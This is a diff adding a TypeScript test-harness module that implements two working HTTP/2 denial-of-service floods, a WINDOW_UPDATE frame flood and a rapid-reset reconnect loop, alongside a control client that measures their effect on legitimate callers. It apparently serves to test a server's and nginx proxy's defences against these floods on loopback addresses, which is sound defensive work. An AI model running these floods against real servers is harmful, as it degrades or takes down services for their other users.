@@ -1,0 +1,340 @@
+/**
+ * Connection-level HTTP/2 floods, and a well-behaved caller to measure what
+ * they do to everyone else: a connection that sends nothing but
+ * WINDOW_UPDATE frames (no stream, no token), and rapid reset in a
+ * reconnect loop (streams opened and reset at once; when the peer cuts the
+ * connection, a new one). Used by `scripts/connection_flood.ts` and
+ * `tests/deploy/nginx_floods_test.ts`, against the server directly or
+ * through the `deploy/` proxy.
+ *
+ * An attacker can come from a loopback address of its own (`localAddress`,
+ * e.g. `127.0.0.2`), so a proxy's per-address limits tell it apart from the
+ * control caller on `127.0.0.1`.
+ *
+ * @module
+ */
+import http2 from "node:http2";
+import net from "node:net";
+import tls from "node:tls";
+import { Buffer } from "node:buffer";
+
+/** Where a flood or the control caller connects. */
+export interface FloodTarget {
+  /** Address to connect to. */
+  host: string;
+  /** Port to connect to. */
+  port: number;
+  /** CA certificate (PEM) the target's certificate is checked against. */
+  ca: string;
+  /** Name the certificate must carry. @default "localhost" */
+  servername?: string;
+  /** Local address to connect from (a loopback alias such as `127.0.0.2`). */
+  localAddress?: string;
+}
+
+/** What a WINDOW_UPDATE flood did. */
+export interface WindowUpdateFloodResult {
+  /** WINDOW_UPDATE frames written. */
+  frames: number;
+  /** When the peer closed the connection, in ms after the flood began; undefined if it never did. */
+  cutAfterMs?: number;
+  /** The GOAWAY error code the peer sent, if it sent one. */
+  goawayCode?: number;
+}
+
+const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");
+const FRAME_SETTINGS = 0x4;
+const FRAME_GOAWAY = 0x7;
+const FRAME_WINDOW_UPDATE = 0x8;
+const FLAG_ACK = 0x1;
+
+/**
+ * One HTTP/2 frame.
+ *
+ * @example
+ * ```ts
+ * const settingsAck = h2Frame(0x4, 0x1, 0, new Uint8Array());
+ * ```
+ */
+export function h2Frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
+  const frame = Buffer.alloc(9 + payload.length);
+  frame.writeUIntBE(payload.length, 0, 3);
+  frame[3] = type;
+  frame[4] = flags;
+  frame.writeUInt32BE(stream & 0x7fffffff, 5);
+  frame.set(payload, 9);
+  return frame;
+}
+
+/** A TLS connection speaking h2, from `localAddress` when one is given. */
+function connectTls(target: FloodTarget): tls.TLSSocket {
+  const options: tls.ConnectionOptions = {
+    ca: target.ca,
+    servername: target.servername ?? "localhost",
+    ALPNProtocols: ["h2"],
+  };
+  if (target.localAddress === undefined) {
+    return tls.connect({ ...options, host: target.host, port: target.port });
+  }
+  const raw = net.connect({
+    host: target.host,
+    port: target.port,
+    localAddress: target.localAddress,
+  });
+  return tls.connect({ ...options, socket: raw });
+}
+
+/**
+ * Opens one connection and sends WINDOW_UPDATE frames on stream 0 (increment
+ * 1, so the window never overflows) as fast as the peer reads them, for
+ * `durationMs` or until the peer closes the connection. It answers the
+ * peer's SETTINGS (so the connection is well-formed) and nothing else.
+ *
+ * @param target where to connect
+ * @param durationMs how long to flood
+ * @returns frames sent, and when and how the peer cut the connection
+ *
+ * @example
+ * ```ts
+ * const result = await windowUpdateFlood({ host: "127.0.0.1", port, ca }, 5_000);
+ * console.log(result.cutAfterMs ?? "never cut");
+ * ```
+ */
+export async function windowUpdateFlood(
+  target: FloodTarget,
+  durationMs: number,
+): Promise<WindowUpdateFloodResult> {
+  const socket = connectTls(target);
+  const result: WindowUpdateFloodResult = { frames: 0 };
+  let closed = false;
+  let started = 0;
+  const ended = new Promise<void>((resolve) => {
+    socket.on("error", () => {});
+    socket.on("close", () => {
+      closed = true;
+      if (started > 0) result.cutAfterMs ??= performance.now() - started;
+      resolve();
+    });
+  });
+  await new Promise<void>((resolve) => {
+    socket.once("secureConnect", () => resolve());
+    socket.once("close", () => resolve());
+  });
+  if (closed) throw new Error(`cannot connect to ${target.host}:${target.port}`);
+  // Read the peer's frames: acknowledge its SETTINGS, note its GOAWAY.
+  let pending = Buffer.alloc(0);
+  socket.on("data", (chunk: Buffer) => {
+    pending = Buffer.concat([pending, chunk]);
+    while (pending.length >= 9) {
+      const length = pending.readUIntBE(0, 3);
+      if (pending.length < 9 + length) break;
+      const type = pending[3];
+      const flags = pending[4];
+      if (type === FRAME_SETTINGS && (flags & FLAG_ACK) === 0 && !closed) {
+        socket.write(h2Frame(FRAME_SETTINGS, FLAG_ACK, 0, new Uint8Array()));
+      } else if (type === FRAME_GOAWAY && length >= 8) {
+        result.goawayCode = pending.readUInt32BE(9 + 4);
+        if (started > 0) result.cutAfterMs ??= performance.now() - started;
+      }
+      pending = pending.subarray(9 + length);
+    }
+  });
+  socket.write(Buffer.concat([PREFACE, h2Frame(FRAME_SETTINGS, 0, 0, new Uint8Array())]));
+
+  const increment = Buffer.alloc(4);
+  increment.writeUInt32BE(1);
+  const one = h2Frame(FRAME_WINDOW_UPDATE, 0, 0, increment);
+  const perWrite = 4096;
+  const burst = Buffer.concat(Array.from({ length: perWrite }, () => one));
+  started = performance.now();
+  const ends = started + durationMs;
+  while (!closed && result.cutAfterMs === undefined && performance.now() < ends) {
+    const more = socket.write(burst);
+    result.frames += perWrite;
+    if (!more) {
+      // Wait until the peer has read what is queued (or the flood's time is up).
+      await new Promise<void>((resolve) => {
+        const timer = setTimeout(resolve, Math.max(0, ends - performance.now()));
+        const done = () => {
+          clearTimeout(timer);
+          socket.off("drain", done);
+          socket.off("close", done);
+          resolve();
+        };
+        socket.on("drain", done);
+        socket.on("close", done);
+      });
+    }
+  }
+  socket.destroy();
+  await ended;
+  return result;
+}
+
+/** What a rapid-reset reconnect loop did. */
+export interface RapidResetResult {
+  /** Connections opened (each reconnect is one). */
+  connections: number;
+  /** Streams opened and reset at once. */
+  resets: number;
+  /** Connections the peer closed (GOAWAY or close) while the loop still used them. */
+  cutByPeer: number;
+}
+
+/**
+ * `parallel` loops, each opening a connection, opening and resetting streams
+ * on it in bursts of 50 (a `SayHello` request without a token, reset with
+ * `CANCEL`), and reconnecting as soon as the peer cuts the connection, for
+ * `durationMs`.
+ *
+ * @param target where to connect
+ * @param durationMs how long the loops run
+ * @param parallel loops at once
+ * @returns connections, resets, and how many connections the peer cut
+ *
+ * @example
+ * ```ts
+ * const result = await rapidResetLoop({ host: "127.0.0.1", port, ca }, 5_000, 4);
+ * console.log(`${result.connections} connections, ${result.resets} resets`);
+ * ```
+ */
+export async function rapidResetLoop(
+  target: FloodTarget,
+  durationMs: number,
+  parallel: number,
+): Promise<RapidResetResult> {
+  const result: RapidResetResult = { connections: 0, resets: 0, cutByPeer: 0 };
+  const ends = performance.now() + durationMs;
+  const headers = {
+    ":method": "POST",
+    ":path": "/helloworld.Greeter/SayHello",
+    "content-type": "application/grpc",
+    te: "trailers",
+  };
+  const loop = async () => {
+    while (performance.now() < ends) {
+      result.connections++;
+      const session = http2.connect(`https://${target.host}:${target.port}`, {
+        createConnection: () => connectTls(target),
+      });
+      session.on("error", () => {});
+      let cut = false;
+      session.on("goaway", () => (cut = true));
+      const closed = new Promise<void>((resolve) => session.on("close", resolve));
+      await Promise.race([
+        new Promise<void>((resolve) => session.once("connect", () => resolve())),
+        closed,
+        new Promise((resolve) => setTimeout(resolve, 5_000)),
+      ]);
+      while (performance.now() < ends && !cut && !session.closed && !session.destroyed) {
+        try {
+          for (let i = 0; i < 50; i++) {
+            const stream = session.request(headers);
+            stream.on("error", () => {});
+            stream.close(http2.constants.NGHTTP2_CANCEL);
+            result.resets++;
+          }
+        } catch {
+          break; // the session went away under us
+        }
+        await new Promise((resolve) => setTimeout(resolve, 1));
+      }
+      if (performance.now() < ends) result.cutByPeer++;
+      session.destroy();
+      await Promise.race([closed, new Promise((resolve) => setTimeout(resolve, 1_000))]);
+    }
+  };
+  await Promise.all(Array.from({ length: parallel }, loop));
+  return result;
+}
+
+/** What the control caller saw. */
+export interface ControlResult {
+  /** Calls answered `OK` with the expected greeting. */
+  ok: number;
+  /** Calls that failed or took longer than the timeout. */
+  failed: number;
+  /** Latency of each OK call, in ms, in the order made. */
+  latenciesMs: number[];
+}
+
+/**
+ * A well-behaved client: one connection, one `SayHello` with a valid token
+ * every `intervalMs` for `durationMs`, each given `timeoutMs`.
+ *
+ * @param target where to connect
+ * @param token a bearer token the server accepts
+ * @param durationMs how long to call
+ * @param intervalMs pause between calls
+ * @param timeoutMs a call that takes longer counts as failed
+ * @returns OK and failed calls, and the OK calls' latencies
+ *
+ * @example
+ * ```ts
+ * const control = await controlCalls({ host: "127.0.0.1", port, ca }, token, 5_000, 100, 5_000);
+ * console.log(control.ok, control.failed);
+ * ```
+ */
+export async function controlCalls(
+  target: FloodTarget,
+  token: string,
+  durationMs: number,
+  intervalMs: number,
+  timeoutMs: number,
+): Promise<ControlResult> {
+  const result: ControlResult = { ok: 0, failed: 0, latenciesMs: [] };
+  // The request message { name: "control" }: field 1, length 7.
+  const message = Buffer.from([0x0a, 7, ...Buffer.from("control")]);
+  const body = Buffer.alloc(5 + message.length);
+  body.writeUInt32BE(message.length, 1);
+  body.set(message, 5);
+  const ends = performance.now() + durationMs;
+  let session: http2.ClientHttp2Session | undefined;
+  while (performance.now() < ends) {
+    if (session === undefined || session.closed || session.destroyed) {
+      session = http2.connect(`https://${target.host}:${target.port}`, {
+        createConnection: () => connectTls(target),
+      });
+      session.on("error", () => {});
+    }
+    const current = session;
+    const started = performance.now();
+    const ok = await new Promise<boolean>((resolve) => {
+      let call: http2.ClientHttp2Stream;
+      try {
+        call = current.request({
+          ":method": "POST",
+          ":path": "/helloworld.Greeter/SayHello",
+          "content-type": "application/grpc",
+          te: "trailers",
+          authorization: `Bearer ${token}`,
+        });
+      } catch {
+        resolve(false);
+        return;
+      }
+      let status = "";
+      let reply = "";
+      const timer = setTimeout(() => call.close(http2.constants.NGHTTP2_CANCEL), timeoutMs);
+      call.on("trailers", (trailers) => (status = String(trailers["grpc-status"])));
+      call.on("data", (chunk: Buffer) => (reply += chunk.toString("latin1")));
+      call.on("error", () => {});
+      call.on("close", () => {
+        clearTimeout(timer);
+        resolve(status === "0" && reply.includes("Hello, control!"));
+      });
+      call.end(body);
+    });
+    if (ok) {
+      result.ok++;
+      result.latenciesMs.push(performance.now() - started);
+    } else {
+      result.failed++;
+      // A failed call may mean a dead connection: start over on a new one.
+      current.destroy();
+    }
+    await new Promise((resolve) => setTimeout(resolve, intervalMs));
+  }
+  session?.destroy();
+  return result;
+}
